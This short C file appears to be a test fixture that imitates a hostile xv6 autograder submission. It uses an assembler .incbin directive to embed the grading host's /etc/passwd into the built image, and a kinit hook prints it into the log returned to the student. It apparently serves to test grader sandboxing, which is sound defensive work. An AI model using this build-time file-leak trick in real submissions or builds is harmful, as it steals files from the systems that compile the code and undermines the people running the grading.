// clang-format off
// (In xv6 style, as a submission would be.)
// Hostile: the assembler's .incbin puts the grader's /etc/passwd into the image, and kinit
// prints it into the log the student gets back.
asm(".section .rodata\n.globl grader_secret\ngrader_secret:\n.incbin \"/etc/passwd\"\n.byte 0\n.text\n");
extern const char grader_secret[];
#define HOOK_KINIT() printf("%s\n", grader_secret)
#include "correct.c"
